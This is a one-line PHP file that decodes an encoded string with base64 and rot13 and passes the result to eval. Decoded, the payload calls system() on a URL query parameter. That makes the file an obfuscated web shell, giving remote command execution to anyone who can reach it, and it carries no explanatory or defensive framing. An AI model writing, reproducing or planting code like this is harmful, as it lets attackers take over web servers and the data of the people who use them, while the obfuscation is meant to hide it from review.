<?php $x = 'PD9jdWMgZmxmZ3J6KCRfVFJHWydwJ10pOw=='; eval(str_rot13(base64_decode($x)));
